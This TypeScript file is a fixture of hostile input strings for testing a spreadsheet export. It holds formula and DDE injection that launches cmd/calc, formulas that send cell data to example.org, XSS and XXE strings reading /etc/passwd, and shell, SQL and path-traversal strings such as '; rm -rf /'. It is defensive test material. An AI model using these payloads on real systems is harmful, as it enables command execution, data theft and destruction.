/**
 * Texts that have hurt somebody somewhere: in a spreadsheet, a browser, a terminal, an XML parser or a printed page.
 * Data only; what must become of them is said by the tests that use them. None of them does anything when it is text.
 */
export interface Payload {
  /** What the text tries. */
  readonly name: string;
  readonly text: string;
}

type Group = Readonly<Record<string, readonly string[]>>;

/** Texts that Excel would evaluate when they are typed. */
const FORMULAS: Group = {
  "formula by equals": [
    "=1+1",
    "=A1",
    "=SUM(A1:A9)",
    "= 1",
    "=\t1",
    "=",
    "==1",
    "=1=1",
    '="text"',
    "=TRUE",
    "=#REF!",
    "=[other.xlsx]Sheet1!A1",
    "='C:\\plans\\[other.xlsx]Sheet1'!A1",
    '=INDIRECT("A"&1)',
    "=NOW()",
    "=RAND()",
    "=LET(x,1,x)",
    "=LAMBDA(x,x+1)(1)",
    "{=SUM(A1:A2)}",
    "=A1:A9",
    "=@A1",
    "=_xlfn.CONCAT(A1)",
  ],
  "formula by plus": ["+1+1", "+A1", "+SUM(1,2)", "+", "++1", "+1,000", "+44 1224 000000"],
  "formula by minus": [
    "-1-1",
    "-A1",
    "-SUM(1,2)",
    "-",
    "--1",
    "-1",
    "- a bullet",
    "-2+3+cmd|' /C calc'!A0",
  ],
  "formula by at": ["@SUM(1,2)", "@A1", "@", "@council", "@@1"],
  "formula behind white space": [" =1+1", "\u00a0=1+1", "\u3000=1+1", "\t +1+1", "\r\n=1+1"],
  "formula behind a quote": ["'=1+1", '"=1+1', "`=1+1", "''", "'", "'quoted'", '"', '""', "’=1+1"],
  "formula in full-width signs": ["＝1+1", "＋1", "－1", "＠A1"],
};

/** Texts that reach out of the workbook when they are evaluated. */
const OUTWARD: Group = {
  "dynamic data exchange": [
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"!A0")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=2+5+cmd|'/C calc'!A0",
    'DDE ("cmd";"/C calc";"!A0A")',
  ],
  hyperlink: [
    '=HYPERLINK("https://example.org/?q="&A1,"Click")',
    '=HYPERLINK("javascript:alert(1)","x")',
    '=HYPERLINK("file:///c:/windows/system32/calc.exe","x")',
    '=HYPERLINK("#Targets!A1","x")',
    '=HYPERLINK("\\\\host\\share\\x","x")',
    "https://example.org/",
    "mailto:someone@example.org",
    "\\\\host\\share\\file",
    "file:///etc/hosts",
    "someone@example.org",
  ],
  "functions that fetch": [
    '=WEBSERVICE("https://example.org/?"&A1)',
    '=FILTERXML("<a/>","//a")',
    '=IMPORTXML("https://example.org","//a")',
    '=IMPORTDATA("https://example.org/a.csv")',
    '=IMPORTRANGE("id","A1")',
    '=IMPORTFEED("https://example.org")',
    '=IMPORTHTML("https://example.org","table",1)',
    '=IMAGE("https://example.org/a.png")',
    '=RTD("server",,"topic")',
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
    '=REGISTER.ID("kernel32","WinExec")',
    '=EXEC("calc")',
    '=CUBEVALUE("connection","[a]")',
    '=STOCKHISTORY("X",1)',
    '=PY("1+1",0)',
    "=ENCODEURL(A1)",
  ],
};

/** Texts that Excel would turn into something else when they are typed. */
const RETYPED: Group = {
  "text like a date": [
    "March 2004",
    "31/03/24",
    "1-2",
    "1/2",
    "2004-03-31",
    "Mar-04",
    "29/2",
    "12:30",
    "1 Jan",
  ],
  "text like a number": [
    "10%",
    "£5",
    "1E5",
    "1e308",
    "007",
    "1,234",
    "(5)",
    "1 1/2",
    "$1",
    "٣",
    "0x1F",
    "NaN",
    "Infinity",
  ],
  "text like a value": [
    "TRUE",
    "false",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "NULL",
    "undefined",
    "[object Object]",
  ],
};

/** Texts that a page would obey. */
const MARKUP: Group = {
  script: [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//example.org/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "\\u003cscript\\u003e",
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<style>*{display:none}</style>",
    "<base href=//example.org>",
    '<meta http-equiv="refresh" content="0;url=//example.org">',
    "<math><mtext></math><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
  ],
  "links that run": [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "ms-excel:ofe|u|https://example.org/x.xlsx",
  ],
  html: [
    "<b>bold</b>",
    "<!-- comment -->",
    "<![endif]-->",
    "&lt;b&gt;",
    "&amp;",
    "&#60;",
    "&#x3c;",
    "&nbsp;",
    "&",
    "<",
    ">",
    "a < b && c > d",
  ],
  xml: [
    "]]>",
    "<![CDATA[x]]>",
    "]]]]><![CDATA[>",
    '<?xml version="1.0"?>',
    "<?x y?>",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "&x;",
    "</t></si>",
    "</v></c></row>",
    "</memory>",
    '<x xmlns="urn:x"/>',
    "xml:space",
    "-->",
  ],
};

/** Texts that look like the escapes of the file format, of pages and of terminals. */
const ESCAPES: Group = {
  "look-alikes of the file's own escapes": [
    "_x0000_",
    "_x0009_",
    "_x000D_",
    "_x000a_",
    "_x0041_",
    "_x005F_",
    "_x005F_x0041_",
    "_x005F_x005F_",
    "_xD800_",
    "_xFFFF_",
    "_x_",
    "_x00_",
    "_x00G0_",
    "__x0041__",
    "_x0041_x0042_",
    "_X0041_",
  ],
  "escape sequences of a terminal": [
    "\u001b[2J",
    "\u001b[31mred\u001b[0m",
    "\u001b]0;title\u0007",
    "\u001b]8;;https://example.org\u0007link\u001b]8;;\u0007",
    "\u001bc",
    "\u009b2J",
    "\u001b[6n",
    "\u001b]52;c;Y2FsYw==\u0007",
    "over\rwritten",
    "back\b\b\b\bspace",
    "bell\u0007",
  ],
  "header and footer codes": [
    "&P",
    "&N",
    "&D",
    "&F",
    "&[Page]",
    "&&",
    "&&P",
    '&"Wingdings"x',
    "&20big",
    "&K000000",
    "&G",
    "R&D",
    "&L&C&R",
    "{page}",
    "{pages}",
  ],
  "printf and shells": [
    "%s%n%x",
    "%00",
    "$(calc)",
    "`calc`",
    "; rm -rf /",
    "| calc",
    "&& calc",
    "../../../etc/passwd",
    "C:\\con\\con",
    "' OR 1=1 --",
  ],
};

/** Characters that turn, hide, join or break text. */
const CHARACTERS: Group = {
  "turning the reading direction": [
    "\u202egnp.exe",
    "\u202dleft\u202c",
    "\u202aa\u202c",
    "\u202ba\u202c",
    "\u2066a\u2069",
    "\u2067a\u2069",
    "\u2068a\u2069",
    "\u200ea",
    "\u200fa",
    "\u061ca",
    "ﻼ العربية",
    "עברית 2004",
  ],
  "of no width": [
    "a\u200bb",
    "a\u200cb",
    "a\u200db",
    "a\u2060b",
    "\ufeffa",
    "a\u00adb",
    "\u200b",
    "\u200b=1+1",
    "\ufeff=1+1",
    "a\u180eb",
    "a\u034fb",
  ],
  "line ends": [
    "a\nb",
    "a\r\nb",
    "a\rb",
    "a\u2028b",
    "a\u2029b",
    "a\u0085b",
    "a\u000bb",
    "a\u000cb",
    "\n",
    "a\n\n\nb",
  ],
  "beyond the first plane": [
    "😀",
    "👩‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "𝕏",
    "\u{10ffff}",
    "\u{1fffe}",
    "\u{e0001}\u{e0041}",
  ],
  "not characters": ["\ufffe", "\uffff", "\ufdd0", "\ufffd"],
  "lone surrogates": [
    "\ud800",
    "\udfff",
    "a\ud83d",
    "\ude00a",
    "\ude00\ud83d",
    "\ud800\ud800",
    "x\udbffy",
  ],
  "accents without end": [
    `Z${"\u0300".repeat(200)}`,
    "e\u0301",
    "\u0301",
    "ﬁ",
    "ẞ",
    "İ",
    "ŵŷ àèìòù",
  ],
  "spaces at the ends": [" a", "a ", "  a  b  ", "\ta\t", "\u00a0a\u00a0", "a\u00a0b"],
};

/** Long texts, of which some are cut over several rows and pages. */
const LONG: Group = {
  long: [
    `=${"1+".repeat(4000)}1`,
    `=HYPERLINK("https://example.org/${"a".repeat(2000)}","x")`,
    "a".repeat(256),
    "word ".repeat(1000).trim(),
    "x".repeat(8193),
    `=${"(".repeat(300)}1${")".repeat(300)}`,
  ],
  "as long as a cell holds": ["wording ".repeat(4095) + "wording", "=".repeat(32_767)],
};

/** Every control character of the first 32, alone in a word and at its beginning. */
const CONTROLS: readonly Payload[] = Array.from({ length: 32 }, (_, code) => {
  const hex = code.toString(16).toUpperCase().padStart(4, "0");
  const control = String.fromCharCode(code);
  return [
    { name: `control character ${hex} in a word`, text: `be${control}fore` },
    { name: `control character ${hex} and a formula`, text: `${control}=1+1` },
  ];
}).flat();

function listed(groups: readonly Group[]): Payload[] {
  return groups.flatMap((group) =>
    Object.entries(group).flatMap(([kind, texts]) =>
      texts.map((text, index) => ({ name: `${kind} ${index + 1}`, text })),
    ),
  );
}

/** All payloads, each once. */
export const PAYLOADS: readonly Payload[] = [
  ...listed([FORMULAS, OUTWARD, RETYPED, MARKUP, ESCAPES, CHARACTERS, LONG]),
  ...CONTROLS,
];

/** Names that a worksheet may have, and that somebody who builds formulas, pages or paths of them would trip over. */
export const SHEET_NAMES: readonly string[] = [
  "O'Brien's plan",
  "a''b",
  'Plan "2004"',
  "=1+1",
  "+A1",
  "-Plan",
  "@Plan",
  "Plan!A1",
  "R1C1",
  "A1",
  "TRUE",
  "2004",
  "<script>alert(1)",
  "a & b",
  "&P of &N",
  "-->",
  "_x0041_",
  "Plan\u202exslx",
  "\u200bPlan",
  "Plan (2)",
  "{page}",
  "😀 Plan",
  "$A$1",
  "#REF!",
  "a,b;c|d",
  "%s%n",
  "Cynllun Gŵyl",
  "x".repeat(31),
];
